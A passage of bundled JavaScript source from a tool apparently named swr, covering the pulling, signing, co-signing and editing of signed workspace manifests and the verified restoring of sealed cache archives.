            throw new SwrError(`pulled manifest refused: ${held.reason}`, EXIT.UNREPAIRABLE);
    }
    const gate = await decide(gateInput(m), policy);
    if (!gate.allowed)
        throw new SwrError(`pulled manifest refused: ${gate.reason}`, EXIT.UNREPAIRABLE);
    const sidecars = checkedIndexes(m, bundle);
    fs.mkdirSync(path.dirname(target), { recursive: true });
    for (const [p, bytes] of sidecars) {
        fs.mkdirSync(path.dirname(p), { recursive: true });
        writeFileAtomic(p, bytes, { exclusive: true });
    }
    writeFileAtomic(target, text, { exclusive: true });
    return {
        kind: 'pull',
        status: 'pulled',
        manifest: target,
        locator: got.locator,
        sha256: sha256Hex(got.bytes),
        sealed: opened.sealed,
        expanded: redacted,
        digest: m.digest,
        version: m.body.version,
        reason: gate.reason
    };
}
function sources(src, ctx, target) {
    if (src.code !== undefined) {
        if (src.from)
            throw new UsageError('--code names its store: leave out --from');
        const code = parseCode(src.code);
        return [{ locator: code.locator, check: sha => pinMatches(code, sha) }];
    }
    if (src.sha256 !== undefined && !/^[0-9a-f]{64}$/i.test(src.sha256))
        throw new UsageError('--sha256 takes 64 hex digits');
    const pin = src.sha256?.toLowerCase();
    const name = checkName(src.name ?? defaultName(target));
    return (src.from ?? src.defaultStores).map(spec => ({
        locator: openStore(spec, ctx).locate(name),
        check: pin ? sha => sha === pin : undefined
    }));
}
/** The first copy any source yields; a copy that fails its pin is refused outright. */
async function fetchFirst(list, ctx) {
    const misses = [];
    for (const s of list) {
        let bytes;
        try {
            bytes = (await storeOfLocator(s.locator, ctx).get(s.locator)).bytes;
        }
        catch (err) {
            if (err instanceof UsageError)
                throw err;
            misses.push(message(err));
            continue;
        }
        const sha = sha256Hex(bytes);
        if (s.check && !s.check(sha))
            throw new SwrError(`pulled bundle refused: ${s.locator} holds bytes whose sha256 (${sha.slice(0, 16)}…) is not the pinned one`, EXIT.UNREPAIRABLE);
        return { bytes, locator: s.locator };
    }
    throw new SwrError(`pull: no store gave a copy: ${misses.join('; ')}`, EXIT.UNREPAIRABLE);
}
/** The --expand names, each given alone or comma-separated. */
function expandList(given) {
    const names = (given ?? []).flatMap(g => g.split(',')).map(s => s.trim());
    const bad = names.find(n => !VARIABLE_NAME.test(n));
    if (bad !== undefined)
        throw new UsageError(`--expand ${escapeText(bad, { max: 80 })}: not a variable name a redacted copy uses (GITHUB_TOKEN, URL_PASSWORD, ...)`);
    return names;
}
function format3(parsed) {
    if (parsed.format !== 3)
        throw new SwrError('pulled bundle refused: not a format-3 manifest', EXIT.UNREPAIRABLE);
    return parsed;
}
/**
 * The filled-in text parsed. Its own errors could quote the values, so they are never shown: the
 * stored text's error (which quotes only what the copy holds) is, or a line that names no value.
 */
function parseFilled(filled, stored) {
    try {
        return format3(parseManifestText(filled, 'pulled manifest'));
    }
    catch {
        format3(parseManifestText(stored, 'pulled manifest'));
        throw new SwrError('pulled bundle refused: the copy is not a valid manifest once filled in from the environment (the reason is not shown: it could quote the values)', EXIT.UNREPAIRABLE);
    }
}
function pulledManifest(parsed, opts) {
    return {
        file: opts.target,
        format: 3,
        doc: parsed.doc,
        body: parsed.doc.body,
        digest: manifestDigest(parsed.doc.body),
        workspace: resolveWorkspace(opts.target, parsed.doc.body.workspace, {
            workspace: opts.workspace,
            cwd: opts.cwd
        }),
        lines: parsed.lines,
        notes: parsed.notes
    };
}
/**
 * The tree indexes to write beside the manifest, each matching the signed manifest. An index
 * already there is kept when it is this one, and never replaced when it is not.
 */
function checkedIndexes(m, bundle) {
    const sidecars = new Map();
    for (const e of m.body.entries) {
        if (e.kind !== 'tree' || !e.expect.index)
            continue;
        const bytes = Buffer.from(bundle.trees[e.id] ?? '', 'base64');
        if (sha256Hex(bytes) !== e.expect.index.sha256)
            throw new SwrError(`pulled bundle refused: the index of tree "${e.id}" does not match the signed manifest`, EXIT.UNREPAIRABLE);
        const p = indexPath(m.file, e.id);
        if (fs.existsSync(p)) {
            if (fs.readFileSync(p).equals(bytes))
                continue;
            throw new UsageError(`${p} already exists with other bytes: pull never overwrites it`);
        }
        sidecars.set(p, bytes);
    }
    return sidecars;
}
/** Each copy pushed from this machine for `file`, read back and compared with its record. */
async function syncStatus(file, ctx, opts) {
    const now = () => (opts.now?.() ?? new Date()).getTime();
    const rows = [];
    for (const r of replicasOf(opts.stateDir, file)) {
        const row = {
            store: r.store,
            locator: r.locator,
            reachable: false,
            health: 'unreachable',
            sha256: r.sha256,
            pushed_at: r.pushed_at,
            age_s: null
        };
        try {
            const store = storeOfLocator(r.locator, ctx);
            const st = await store.stat(r.locator);
            const got = await store.get(r.locator);
            row.reachable = true;
            row.health = sha256Hex(got.bytes) === r.sha256 ? 'ok' : 'mismatch';
            const at = got.storedAt ?? st.storedAt ?? new Date(r.pushed_at);
            row.age_s = Number.isFinite(at.getTime())
                ? Math.max(0, Math.round((now() - at.getTime()) / 1000))
                : null;
        }
        catch (err) {
            row.detail = message(err);
        }
        rows.push(row);
    }
    return {
        kind: 'sync-status',
        manifest: file,
        healthy: rows.length > 0 && rows.every(r => r.health === 'ok'),
        replicas: rows
    };
}
/** The copy's default name: the workspace folder's name, which a fresh box recreates alike. */
function defaultName(manifestFile) {
    const base = path
        .basename(path.dirname(path.dirname(path.resolve(manifestFile))))
        .replace(/[^A-Za-z0-9._-]+/g, '-')
        .replace(/^[^A-Za-z0-9]+/, '')
        .replace(/\.\.+/g, '.')
        .slice(0, 64);
    return base && !base.endsWith('.lock') ? base : 'manifest';
}
function message(err) {
    return err instanceof Error ? err.message : String(err);
}

;// CONCATENATED MODULE: ./src/core/manifest/write.ts
/**
 * Creating and saving manifests. The body is written with a fixed key order so diffs stay small;
 * the file is replaced atomically, and a new manifest never overwrites one that appeared meanwhile.
 */







const SCHEMA_URL = 'urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json';
/** The workspace as the manifest records it: relative when the manifest sits inside it. */
function spellWorkspace(manifestFile, workspace) {
    const dir = path.dirname(path.resolve(manifestFile));
    if (isInside(workspace, dir))
        return path.relative(dir, workspace) || '.';
    return workspace;
}
function write_newDocument(manifestFile, workspace, now) {
    return {
        $schema: SCHEMA_URL,
        body: {
            schema: 3,
            version: 1,
            workspace: spellWorkspace(manifestFile, workspace),
            created: now.toISOString().replace(/\.\d+Z$/, 'Z'),
            entries: []
        },
        signatures: []
    };
}
const write_ENTRY_KEYS = [
    'id',
    'kind',
    'path',
    'tier',
    'needs',
    'key',
    'restore',
    'timeout_s',
    'env',
    'secret_env',
    'smoke',
    'smoke_timeout_s',
    'note',
    'ignore',
    'expect',
    'escrow'
];
function orderEntry(e) {
    const src = e;
    const out = {};
    for (const k of write_ENTRY_KEYS)
        if (src[k] !== undefined)
            out[k] = src[k];
    // Fields without a place in the order keep theirs after the known ones: never drop data.
    for (const [k, v] of Object.entries(src))
        if (!(k in out) && v !== undefined)
            out[k] = v;
    return out;
}
function serializeDocument(doc) {
    const body = {
        schema: 3,
        version: doc.body.version,
        workspace: doc.body.workspace,
        created: doc.body.created,
        ...(doc.body.expires !== undefined ? { expires: doc.body.expires } : {}),
        ...(doc.body.scope !== undefined ? { scope: doc.body.scope } : {}),
        ...(doc.body.shell !== undefined ? { shell: doc.body.shell } : {}),
        entries: doc.body.entries.map(orderEntry),
        ...(doc.body.sealed !== undefined
            ? {
                sealed: doc.body.sealed.map(s => orderEntry(s))
            }
            : {})
    };
    return (JSON.stringify({ $schema: doc.$schema ?? SCHEMA_URL, body, signatures: doc.signatures }, null, 2) + '\n');
}
/**
 * Refuse a document the loader would refuse (schema, ids, needs, cycles, bounds): an edit must
 * never write, let alone sign, a manifest every later command rejects. One line, exit 4.
 */
function assertWritable(file, text) {
    const problems = manifestProblems(JSON.parse(text), { lines: new Map(), file: path.basename(file) }, text);
    if (problems.length === 0)
        return;
    const more = problems.length > 1 ? ` (and ${problems.length - 1} more)` : '';
    throw new ManifestError(`${problems[0]}${more}; nothing was written`, problems);
}
function write_saveManifest(file, doc, opts = {}) {
    const text = serializeDocument(doc);
    assertWritable(file, text);
    if (!opts.create)
        assertUnchangedSinceRead(file);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    for (const [p, bytes] of opts.sidecars ?? []) {
        fs.mkdirSync(path.dirname(p), { recursive: true });
        writeFileAtomic(p, bytes);
    }
    const bytes = Buffer.from(text, 'utf8');
    writeFileAtomic(file, bytes, { exclusive: opts.create === true });
    noteManifestBytes(file, bytes);
}

;// CONCATENATED MODULE: ./src/core/sign/edit-rules.ts
/**
 * Editing rules: no signature laundering. An editing command (add, import, escrow, retighten, ...)
 * may change a signed manifest only when its signature verifies here, or when the user approved
 * the exact loaded content (--approve-digest); then it re-signs. An unsigned manifest stays
 * unsigned after an edit (`swr sign` is the explicit approval), unless this machine remembers
 * accepting a signed version of it: then the missing signatures are treated as stripped.
 */


const HOW_TO_APPROVE = 'review the manifest (its recipes are code), then approve exactly that content with --approve-digest and the digest that "swr verify" shows';
async function edit_rules_authorizeEdit(m, policy, approveDigest) {
    if (approveDigest !== undefined) {
        if (approveDigest.toLowerCase() !== m.digest) {
            throw new errors_SwrError(`--approve-digest does not match the manifest's digest: it changed since it was reviewed`, errors_EXIT.UNREPAIRABLE);
        }
        return { resign: true, note: `approved digest ${m.digest}` };
    }
    if (m.doc.signatures.length === 0) {
        if (policy.remembered &&
            policy.remembered.signed !== false &&
            policy.remembered.digest !== m.digest) {
            throw new errors_SwrError(`${m.file}: a signed version of this manifest was accepted here, and this copy is unsigned and different: refusing to edit; ${HOW_TO_APPROVE}`, errors_EXIT.UNREPAIRABLE);
        }
        return { resign: false, note: 'manifest is unsigned: run "swr sign" to approve it' };
    }
    // Renewing an expired manifest or moving it is an edit like any other: only signatures and rollback count.
    const input = gate_gateInput(m);
    const decision = await gate_decide(input, { ...policy, require: 'any', waiveDigest: undefined }, { ...ALL_DEFENSES, expiry: false, scope: false });
    if (!decision.allowed) {
        throw new errors_SwrError(`${m.file}: signature does not verify (${decision.reason}): refusing to edit; ${HOW_TO_APPROVE}`, errors_EXIT.UNREPAIRABLE);
    }
    return { resign: true };
}

;// CONCATENATED MODULE: ./src/core/sign/sign.ts
/**
 * Signing a manifest: raise `version`, then sign the new body with every key this machine holds
 * (HMAC and/or ML-DSA). Old signatures are dropped: they covered another body.
 */




function sign_hasSigningKey(keys) {
    return keys.hmacKey !== undefined || keys.identity !== undefined;
}
/** A new document: same entries, a version above both the old one and `floor`, fresh signatures. */
async function sign_signDocument(doc, keys, 
/** The highest version already accepted on this machine: signing goes above it. */
floor = 0) {
    const body = { ...doc.body, version: Math.max(doc.body.version, floor) + 1 };
    const input = signingInput(body);
    const signatures = [];
    if (keys.hmacKey)
        signatures.push(signHmac(keys.hmacKey, input));
    if (keys.identity)
        signatures.push(await signMldsa(keys.identity, input));
    return { doc: { ...doc, body, signatures }, digest: canonical_manifestDigest(body) };
}
/**
 * Co-signing: add this machine's ML-DSA signature to a manifest whose signatures already verify,
 * without changing the body or its version, so distinct signers can meet a threshold.
 */
async function sign_cosignDocument(doc, identity) {
    const sig = await signMldsa(identity, signingInput(doc.body));
    const others = doc.signatures.filter(s => !(s.alg === 'ml-dsa-87' && s.keyid === identity.fingerprint));
    return { ...doc, signatures: [...others, sig] };
}

;// CONCATENATED MODULE: ./src/core/engine/signatures.ts




async function verifySignatures(m, policy, opts = {}) {
    const gate = await gate_decide(gate_gateInput(m), policy);
    // A waiver is for one run: it never becomes the floor a later copy is judged against.
    const remembered = opts.rememberIn !== undefined && gate.allowed && policy.waiveDigest === undefined;
    if (remembered)
        version_memory_remember(opts.rememberIn, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
    return {
        kind: 'signatures',
        gate,
        require: policy.require,
        manifest: {
            file: m.file,
            digest: m.digest,
            version: m.body.version,
            expires: m.body.expires,
            signatures: m.doc.signatures.length
        },
        remembered
    };
}
const STATE_TEXT = {
    valid: 'valid',
    invalid: 'invalid',
    untrusted: 'untrusted signer',
    'no-key': 'not checked (no HMAC key here)',
    'other-key': 'not checked (made with another HMAC key, which this machine does not hold)'
};
/** A signature's state in words ("untrusted signer", "not checked (no HMAC key here)"). */
function stateWords(s) {
    return STATE_TEXT[s.state];
}
/** Who made a signature: the HMAC key's id (escaped: the document's word) or the ML-DSA fingerprint. */
function signerWords(s) {
    return s.alg === 'hmac-sha256'
        ? `hmac-sha256 (key ${escapeText(s.keyid, { max: 64 })})`
        : `ml-dsa-87 ${groupFingerprint(s.fingerprint ?? s.keyid)}`;
}
/** "signer: state", as a refusal names a signature. */
function signatures_signatureWords(s) {
    return `${signerWords(s)}: ${stateWords(s)}`;
}

;// CONCATENATED MODULE: ./src/core/engine/edit.ts
/**
 * The edit session as one use case, for every command that changes a manifest (add, init, edit,
 * rm, rescan, escrow, import, sign and the authoring commands). It exists so that no command can
 * skip a step of it: under the manifest's lock it opens the manifest (or starts a new one), applies
 * the editing rules (a signed manifest is edited only when its signatures verify here or its exact
 * content was approved by digest, so an edit never launders a signature), hands the document to
 * the command's change, and saves the result above the rollback floor this machine remembers,
 * signed with this machine's keys when the edit was authorised, remembering what it saved. It
 * returns the opened manifest, what was saved (digest, version, signed or why not) and the
 * change's own value; the shell only prints them.
 */














/** Open (or start) the manifest, let `change` edit it, and save it under the editing rules. */
function editManifest(s, change) {
    return locked(s, async () => {
        const m = await edit_open(s);
        const c = await change(m);
        if (!c.save)
            return { manifest: m, value: c.value };
        const saved = await edit_save(s, m.file, m.doc, {
            resign: m.resign,
            created: m.created,
            sidecars: c.sidecars
        });
        for (const f of c.dropped ?? [])
            dropFile(f);
        return { manifest: m, saved, value: c.value };
    });
}
/** Under the lock, save a new manifest that `make` built; never over one that exists. */
function createManifest(s, make) {
    return locked(s, async () => {
        const file = s.located.file;
        const made = await make(file);
        const saved = await edit_save(s, file, made.doc, { resign: made.resign, created: true });
        return { file, saved, value: made.value };
    });
}
/**
 * `swr sign`: raise the version above every version remembered under the old and the new scope,
 * and sign the body `body` makes (scope and expiry as the flags set them) with every key here.
 */
function signManifest(s, body) {
    return locked(s, async () => {
        const m = loadFormat3(s);
        const next = body(m);
        const keys = await keysOrRefuse(s);
        await authorizeEdit(m, s.policy(m), s.approveDigest);
        // Moving the scope moves the memory's key too: the floor is the higher of the two.
        const floor = Math.max(recall(s.stateDir, m.file, m.body.scope)?.version ?? 0, recall(s.stateDir, m.file, next.scope)?.version ?? 0);
        const signed = await signDocument({ ...m.doc, body: next }, keys, floor);
        saveManifest(m.file, signed.doc);
        remember(s.stateDir, m.file, { version: signed.doc.body.version, digest: signed.digest }, signed.doc.body.scope);
        return {
            file: m.file,
            doc: signed.doc,
            digest: signed.digest,
            by: { hmac: keys.hmacKey !== undefined, mldsa: keys.identity?.fingerprint }
        };
    });
}
/**
 * `swr sign --cosign`: this machine's ML-DSA signature joins the others over the same body and
 * version, so distinct signers can meet a threshold. Only over signatures that verify: one that
 * does not means the body changed since it was signed, and co-signing it would launder the change.
 * Another machine's HMAC cannot be checked here (its key stays there) and is neither counted nor
 * refused; at least one signature must verify and be trusted here, unless the digest was approved.
 */
function cosignManifest(s) {
    return locked(s, async () => {
        const m = loadFormat3(s);
        const keys = await keysOrRefuse(s);
        const policy = s.policy(m);
        if (!keys.identity)
            throw new SwrError('--cosign adds an ML-DSA signature: this machine has no identity (run "swr keygen")', EXIT.UNREPAIRABLE);
        if (m.doc.signatures.length === 0)
            throw new SwrError(`${m.file}: unsigned: nothing to co-sign; sign it first with "swr sign"`, EXIT.UNREPAIRABLE);
        const states = await evaluateSignatures(gateInput(m), policy);
        const broken = states.find(x => x.state === 'invalid');
        if (broken)
            throw new SwrError(`${m.file}: a ${broken.alg} signature does not verify (the body or that signature changed since it was signed): refusing to co-sign; the manifest must be signed again with "swr sign"`, EXIT.UNREPAIRABLE);
        if (s.approveDigest === undefined && !states.some(x => x.state === 'valid'))
            throw new SwrError(`${m.file}: no signature on it can be checked and trusted here (${states.map(signatureWords).join(', ')}): refusing to co-sign; trust its signer first ("swr trust add FP NAME"), or review it and pass --approve-digest`, EXIT.UNREPAIRABLE);
        // One trusted signature is enough to co-sign; the run's threshold is for running, not signing.
        await authorizeEdit(m, { ...policy, threshold: 1 }, s.approveDigest);
        const doc = await cosignDocument(m.doc, keys.identity);
        saveManifest(m.file, doc);
        remember(s.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
        return {
            file: m.file,
            doc,
            digest: m.digest,
            by: { hmac: false, mldsa: keys.identity.fingerprint }
        };
    });
}
function locked(s, fn) {
    if (!s.lock)
        return fn();
    return withLock({ ...s.lock, subject: s.located.file, stateDir: s.stateDir }, fn);
}
function loadFormat3(s) {
    const m = loadManifest(s.located.file, { workspace: s.workspace, cwd: s.cwd });
    if (m.format !== 3)
        throw new UsageError(`${m.file} is a format-2 manifest: convert it with "swr import" first`);
    return m;
}
async function keysOrRefuse(s) {
    const keys = await signingKeys(s);
    if (!hasSigningKey(keys))
        throw new SwrError('no signing key: run "swr keygen", or set SWR_HMAC_KEY', EXIT.UNREPAIRABLE);
    return keys;
}
/** The keys this machine signs with (ML-DSA is loaded only when an identity exists). */
async function signingKeys(s) {
    const hmacKey = loadHmacKey(s.stateDir, s.hmacKeyText)?.key;
    const seed = loadIdentitySeed(s.stateDir);
    return { hmacKey, identity: seed ? await identityFromSeed(seed) : undefined };
}
/**
 * The manifest to edit, authorised under the editing rules; or a new one (workspace: the
 * `--workspace` flag, else the `.swr` directory's parent, else the working directory).
 */
async function edit_open(s) {
    const { located } = s;
    if (located.how !== 'new' && fs.existsSync(located.file)) {
        const m = loadManifest(located.file, { workspace: s.workspace, cwd: s.cwd });
        if (m.format !== 3)
            throw new UsageError(`${located.file} is a format-2 manifest: convert it first with "swr import"`);
        const auth = await authorizeEdit(m, s.policy(m), s.approveDigest);
        const opened = {
            file: m.file,
            doc: m.doc,
            workspace: m.workspace,
            created: false,
            resign: auth.resign
        };
        return auth.note ? { ...opened, note: auth.note } : opened;
    }
    const dir = path.dirname(located.file);
    const workspace = s.workspace
        ? path.resolve(s.cwd, s.workspace)
        : path.basename(dir) === '.swr'
            ? path.dirname(dir)
            : s.cwd;
    if (!fs.existsSync(workspace) || !fs.statSync(workspace).isDirectory())
        throw new UsageError(`workspace ${workspace} is not a directory`);
    const real = fs.realpathSync(workspace);
    if (real === '/')
        throw new UsageError('workspace "/" is refused: describe a directory, not the whole machine');
    const doc = newDocument(located.file, real, new Date());
    return { file: located.file, doc, workspace: real, created: true, resign: true };
}
/**
 * Save under the editing rules: when `resign` (an authorised edit of a signed manifest, or one
 * this session created) it is signed with the keys at hand; otherwise it is saved unsigned.
 * Signatures over the old body are dropped either way. `created` makes the write exclusive.
 */
async function edit_save(s, file, doc, how) {
    const opts = { create: how.created, ...(how.sidecars ? { sidecars: how.sidecars } : {}) };
    // Versions only go up on this machine, even when an older copy was approved or the file recreated.
    const floor = recall(s.stateDir, file, doc.body.scope)?.version ?? 0;
    if (how.resign) {
        const keys = await signingKeys(s);
        if (hasSigningKey(keys)) {
            const signed = await signDocument(doc, keys, floor);
            saveManifest(file, signed.doc, opts);
            remember(s.stateDir, file, { version: signed.doc.body.version, digest: signed.digest }, signed.doc.body.scope);
            return { digest: signed.digest, version: signed.doc.body.version, signed: true };
        }
    }
    const version = how.created && floor === 0 ? doc.body.version : Math.max(doc.body.version, floor) + 1;
    const body = { ...doc.body, version };
    saveManifest(file, { ...doc, body, signatures: [] }, opts);
    const digest = manifestDigest(body);
    // An approved edit saved unsigned (no key here) is still what this machine accepted.
    if (how.resign && !how.created)
        remember(s.stateDir, file, { version, digest, signed: false }, body.scope);
    const note = how.resign
        ? 'no signing key here: the edited manifest is unsigned; sign it with "swr sign"'
        : undefined;
    return { digest, version, signed: false, ...(note ? { note } : {}) };
}
/** A stale index is harmless (a new entry of that id writes its own), so a failure is ignored. */
function dropFile(file) {
    try {
        fs.unlinkSync(file);
    }
    catch {
        // Gone already, or not ours to remove: either way the manifest no longer reads it.
    }
}

;// CONCATENATED MODULE: ./src/core/engine/errors.ts
/**
 * What a run that stopped with an error means, decided once for both shells. The CLI prints the
 * line and exits with the outcome's code; the Action publishes the outcome and fails the step with
 * the line. Before this, each shell classified errors by its own rules, and a permission error on
 * a file was bad input to the CLI (exit 4) but a bug to the Action (exit 70).
 *
 * Four kinds, in this order: an SwrError (its own exit code), a disk error (`diskError`: exit 74),
 * a file system error with a path the user can fix (exit 4), and anything else, which is a bug in
 * swr: its own status and EXIT.INTERNAL, never 1 or 2 (those say something about the workspace).
 *
 * `line` is the message without the `swr: ` prefix and not yet escaped: each shell escapes and
 * bounds it for where it prints (a terminal, the runner's log).
 */


/** Longest description of a bug: its class and message, not whatever it dragged along. */
const BUG_MAX = 300;
function classifyError(err) {
    const known = err instanceof errors_SwrError ? err : (diskError(err) ?? accessError(err));
    if (known)
        return { kind: known.kind, outcome: outcomeOfError(known.exitCode), line: known.message };
    return classifyBug(err);
}
/**
 * `err` as a bug, whatever it is: for what escaped every handler (an uncaught exception), which
 * no one-line error should.
 */
function classifyBug(err) {
    const e = err instanceof Error ? err : new Error(String(err));
    const what = (e instanceof InternalError ? e.message : `${e.name}: ${e.message}`)
        .replace(/\p{Cc}+/gu, ' ')
        .slice(0, BUG_MAX);
    return {
        kind: 'INTERNAL',
        outcome: outcomeOfError(errors_EXIT.INTERNAL),
        line: `internal error: ${what}`,
        stack: e.stack
    };
}

;// CONCATENATED MODULE: ./src/core/seal/archive.ts
/**
 * Reading a sealed cache archive: its first member is the seal, read whole (bounded), parsed and
 * judged before any other member is looked at; every later member is routed to the sealed path it
 * lies under and extracted into private scratch under that path's recorded state (entry by entry,
 * with the extractor every cache restore uses: a tree's members checked against its index and
 * every file hashed as it streams). A member under no sealed path, a second seal, or a seal that
 * does not hold stops the archive with one line.
 */





/** Thrown after the seal when only the seal was asked for: the download stops there. */
class SealOnly extends Rejected {
    constructor() {
        super('stopped after the seal');
        this.name = 'SealOnly';
    }
}
/** Blobs and links carry no per-file record: bounded here, verified in scratch afterwards. */
function archive_expectationOf(s) {
    const e = s.entry;
    switch (e.kind) {
        case 'file':
            return {
                kind: 'file',
                size: e.expect.size,
                sha256: e.expect.sha256,
                mode: parseMode(e.expect.mode)
            };
        case 'blob':
            return { kind: 'bounded', maxMembers: 1, maxBytes: e.expect.size, single: true };
        case 'link':
            return { kind: 'bounded', maxMembers: 1, maxBytes: 0, single: true };
        case 'tree':
            if (!s.records)
                throw new Rejected(`the seal records no index for ${shown(s.location.spelling)}`);
            return { kind: 'indexed', records: s.records, ignore: e.ignore };
    }
}
class SealedArchive {
    opts;
    seal;
    entries = [];
    routes = [];
    sealBytes = [];
    members = 0;
    constructor(opts) {
        this.opts = opts;
    }
    member(m) {
        if (this.members++ === 0)
            return this.sealMember(m);
        if (!this.seal)
            throw new Rejected('the archive ended its seal early');
        const name = m.name.replace(/\/+$/, '');
        const route = this.routes.find(r => name === r.member || name.startsWith(`${r.member}/`));
        if (!route)
            throw new Rejected(`member outside the sealed paths: ${shown(m.name)}`);
        return route.extractor.member(m);
    }
    sealMember(m) {
        if (m.name !== this.opts.sealMember || m.type !== 'file')
            throw new Rejected(`no seal: the archive starts with ${shown(m.name)} (an unsealed cache)`);
        if (m.size > SEAL_MAX_BYTES)
            throw new Rejected(`seal of ${m.size} bytes, over the ${SEAL_MAX_BYTES}-byte bound`);
        return {
            write: chunk => void this.sealBytes.push(chunk),
            end: () => this.sealEnded()
        };
    }
    sealEnded() {
        const seal = parseSeal(Buffer.concat(this.sealBytes));
        this.sealBytes = [];
        this.entries = this.opts.accept(seal);
        this.seal = seal;
        if (this.opts.sealOnly)
            throw new SealOnly();
        this.routes = this.entries.map((s, i) => ({
            member: (seal.doc.body.paths[i]?.member ?? '').replace(/\/+$/, ''),
            extractor: new EntryExtractor((seal.doc.body.paths[i]?.member ?? '').replace(/\/+$/, ''), this.opts.destOf(i), archive_expectationOf(s))
        }));
    }
    room() {
        for (const r of this.routes) {
            const wait = r.extractor.room();
            if (wait)
                return wait;
        }
        return undefined;
    }
    async settle() {
        await Promise.all(this.routes.map(r => r.extractor.settle()));
    }
    abort() {
        for (const r of this.routes)
            r.extractor.abort();
    }
    /** After the archive ended: each path complete; summaries in the seal's order. */
    finish() {
        if (!this.seal)
            throw new Rejected('no seal: the archive is empty');
        return this.routes.map((r, i) => {
            try {
                return r.extractor.finish();
            }
            catch (err) {
                if (err instanceof Rejected)
                    throw new Rejected(`${shown(this.entries[i]?.location.spelling ?? r.member)}: ${err.message}`);
                throw err;
            }
        });
    }
}
/** Where sealed path i goes in scratch: its own directory, under its own last name. */
function scratchDest(scratch, i, s) {
    return external_node_path_default().join(scratch, String(i), external_node_path_default().basename(s.location.abs));
}

;// CONCATENATED MODULE: ./src/core/seal/verify.ts
/**
 * Checking paths on disk against a seal, with the same verifiers a manifest's entries use: each
 * sealed path is its entry, rooted at the path's parent directory, with the seal's index as the
 * tree's index. Read-only, and nothing is cached between runs (the paths belong to no manifest).
 */




/** The seal's paths as entries, in order; `locations` are the restoring job's own, index-aligned. */
function sealedEntries(seal, locations) {
    const taken = new Set();
    return seal.doc.body.paths.map((p, i) => {
        const location = locations[i];
        const id = deriveId(location.spelling.replace(/^~\//, ''), taken);
        taken.add(id);
        return {
            entry: { ...p.entry, id, path: external_node_path_default().basename(location.abs) },
            root: external_node_path_default().dirname(location.abs),
            records: seal.records[i],
            location
        };
    });
}
/** One finding per sealed path, in order. */
async function verifySealed(entries, opts) {
    const out = [];
    for (const s of entries) {
        const [f] = await verifyEntries([s.entry], {
            workspace: s.root,
            jobs: opts.jobs,
            deep: true,
            metaOnly: false,
            cache: memoryCache(),
            exclude: new Set(),
            readIndex: () => s.records,
            nativeWalk: opts.nativeWalk
        }, opts.pool ?? {});
        out.push({ ...f, path: s.location.spelling });
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/engine/sealed-cache.ts
/**
 * Sealed caches, the use case behind the cache action (and `swr cache`): restore a cache only when
 * every byte matches the seal its producer made, and seal what a job built before saving it.
 *
 * Restore: find the archive by key or restore-keys prefix; read its seal (the first member) and
 * judge it (signatures, the key it was made for, the paths); when a sealed path is already on disk,
 * check it against the seal first and download no more if it holds; otherwise extract every path
 * into private scratch under the seal (each file hashed as it streams), and only then place them.
 * A partial, corrupt, unsealed, re-keyed or poisoned archive is a miss with its reason and nothing
 * written outside scratch. Save: capture the paths into a seal, sign it with the job's keys, and
 * save it with the paths, as the archive's first member.
 */















function spellings(opts) {
    return [opts.sealFile.spelling, ...opts.locations.map(l => l.spelling)];
}
/** The seal's key and paths must be the ones asked for: an archive moved under another key is refused. */
function acceptFor(opts, trust, matchedKey, signedBy, first) {
    return seal => {
        if (first && !first.equals(seal.bytes))
            throw new Rejected('the seal changed between two downloads of the same archive');
        const body = seal.doc.body;
        if (body.key !== matchedKey)
            throw new Rejected(`the seal was made for key ${shown(body.key)}, not ${shown(matchedKey)} (an archive moved under another key)`);
        const want = opts.locations.map(l => l.spelling);
        const have = body.paths.map(p => p.spelling);
        if (want.length !== have.length || want.some((w, i) => w !== have[i]))
            throw new Rejected(`the seal covers ${have.map(shown).join(', ')}, not the paths asked for`);
        signedBy.splice(0, signedBy.length, ...judgeSeal(seal.doc, trust));
        return sealedEntries(seal, opts.locations);
    };
}
function sealed_cache_reasonOf(err) {
    if (err instanceof Rejected)
        return err.message;
    const e = err;
    return `${e.code ?? 'error'}: ${(e.message ?? String(err)).split('\n')[0]}`;
}
function onDisk(l) {
    return external_node_fs_default().lstatSync(l.abs, { throwIfNoEntry: false }) !== undefined;
}
function missingFindings(entries) {
    return entries.map(s => ({
        id: s.entry.id,
        kind: s.entry.kind,
        path: s.location.spelling,
        tier: s.entry.tier,
        status: 'MISSING',
        reason: 'missing',
        detail: 'not on disk',
        recorded: {},
        found: {},
        cached: false
    }));
}
function sealed_cache_provenFindings(entries, counts) {
    return entries.map((s, i) => ({
        id: s.entry.id,
        kind: s.entry.kind,
        path: s.location.spelling,
        tier: s.entry.tier,
        status: 'OK',
        reason: 'ok',
        detail: `restored from the cache, every byte verified against the seal (${counts[i]?.files ?? 0} files, ${counts[i]?.bytes ?? 0} bytes)`,
        recorded: {},
        found: { files: counts[i]?.files ?? 0, bytes: counts[i]?.bytes ?? 0 },
        cached: false
    }));
}
/** The directory a sealed path is placed from: the workspace, the home directory, or its parent. */
function placeRoot(abs, opts) {
    if (inside_isInside(opts.workspace, abs))
        return opts.workspace;
    if (inside_isInside(opts.home, abs))
        return opts.home;
    external_node_fs_default().mkdirSync(external_node_path_default().dirname(abs), { recursive: true });
    return external_node_path_default().dirname(abs);
}
/** Download, extract into scratch under the seal, prove, place. */
async function extractAndPlace(opts, open, compression, accept) {
    const scratch = makeScratch(opts.scratchBase, 'swr-cache');
    try {
        const handler = new SealedArchive({
            sealMember: opts.sealFile.member,
            accept,
            sealOnly: false,
            destOf: i => scratchDest(scratch, i, handler.entries[i])
        });
        try {
            await unpack(await open(), compression, handler);
        }
        finally {
            handler.abort();
        }
        const summaries = handler.finish();
        const entries = handler.entries;
        // Blobs and links carry no per-file record: their scratch copies are verified as a whole.
        const unproven = entries
            .map((s, i) => ({ s, i }))
            .filter(({ i }) => summaries[i]?.proven !== true);
        if (unproven.length > 0) {
            const inScratch = unproven.map(({ s, i }) => ({
                ...s,
                root: external_node_path_default().dirname(scratchDest(scratch, i, s))
            }));
            const found = await verifySealed(inScratch, { jobs: opts.jobs, nativeWalk: opts.nativeWalk });
            const bad = found.find(f => f.status !== 'OK');
            if (bad)
                throw new Rejected(`${shown(bad.path)}: ${bad.status}: ${bad.detail}`);
        }
        for (const [i, s] of entries.entries())
            place(placeRoot(s.location.abs, opts), scratchDest(scratch, i, s), s.location.abs);
        return {
